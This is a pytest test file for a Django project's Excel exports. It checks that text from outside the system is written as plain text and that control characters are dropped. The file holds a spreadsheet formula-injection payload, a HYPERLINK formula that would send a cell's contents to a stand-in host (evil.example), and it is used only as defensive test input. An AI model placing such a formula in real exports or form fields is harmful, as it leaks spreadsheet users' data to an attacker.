"""Exports through one writer (opora.core.exports): every cell written from outside text is plain
text — a name that looks like a formula stays text, a control character is dropped and the
workbook still builds."""

import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse
from openpyxl.worksheet.worksheet import Worksheet

from opora.consultations.services import journal_workbook
from opora.core.exports import write_row
from opora.scheduling.calendar import local_now
from opora.scheduling.services import handoff_workbook
from opora.scheduling.tests.factories import make_request

FORMULA = '=HYPERLINK("http://evil.example/?d="&D2,"Открыть")'
BELL_NAME = "Иванова\x07 Анна\x1b Петровна"


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def _cells(data: bytes) -> list[list]:
    return [list(row) for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows()]


def _assert_plain(data: bytes) -> None:
    xml = _sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the sheet
    for row in _cells(data):
        for cell in row:
            if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                assert cell.data_type == "s" and cell.quotePrefix


def test_write_row_keeps_numbers_and_dates_and_makes_text_plain():
    wb = openpyxl.Workbook()
    sheet = wb.active
    assert isinstance(sheet, Worksheet)
    write_row(sheet, [7, 2.5, None, "+7 701 000 00 00", "-", "@me", "обычный\tтекст\nстрока"])
    out = io.BytesIO()
    wb.save(out)
    (row,) = _cells(out.getvalue())
    assert [c.value for c in row[:2]] == [7, 2.5] and row[0].data_type == "n"
    assert row[3].value == "+7 701 000 00 00" and row[3].quotePrefix
    assert row[6].value == "обычный\tтекст\nстрока" and not row[6].quotePrefix
    _assert_plain(out.getvalue())


@pytest.mark.django_db
def test_handoff_workbook_writes_a_formula_name_as_text_and_survives_a_control_character(service):
    requests = [
        make_request(service, full_name=FORMULA),
        make_request(service, full_name=BELL_NAME),
    ]
    data = handoff_workbook(service=service, date=local_now(service).date(), requests=requests)
    _assert_plain(data)
    names = [row[2].value for row in _cells(data)[1:]]
    assert names == [FORMULA, "Иванова Анна Петровна"]


def test_journal_export_writes_plain_text():
    data = journal_workbook(rows=[[1, "05.12.2026 15:00, 60 мин", FORMULA, BELL_NAME, "-1+1"]])
    _assert_plain(data)
    row = _cells(data)[2]
    assert row[2].value == FORMULA and row[3].value == "Иванова Анна Петровна"
    assert row[4].value == "-1+1" and row[4].data_type == "s"


def test_registry_export_writes_plain_text():
    import datetime as dt
    from types import SimpleNamespace

    from opora.journals.catalogue import REQUESTS_002
    from opora.journals.documents import write_xlsx
    from opora.journals.selectors import Journal

    journal = Journal(
        form=REQUESTS_002,
        service=SimpleNamespace(name="Служба", code="s"),
        date_from=dt.date(2026, 12, 1),
        date_to=dt.date(2026, 12, 5),
        coded=False,
        count=1,
        rows=iter([[1, "05.12.2026", FORMULA, BELL_NAME]]),
    )
    out = io.BytesIO()
    write_xlsx(journal, out)
    data = out.getvalue()
    _assert_plain(data)
    assert _cells(data)[2][3].value == "Иванова Анна Петровна"


@pytest.mark.django_db
def test_a_formula_name_from_the_portal_is_text_in_the_registry_download(client, service, head):
    make_request(service, full_name=FORMULA, channel="portal")
    client.force_login(head)
    response = client.get(reverse("registry_requests"), {"format": "xlsx"})
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    _assert_plain(data)
    assert any(FORMULA in str(cell.value) for row in _cells(data) for cell in row)
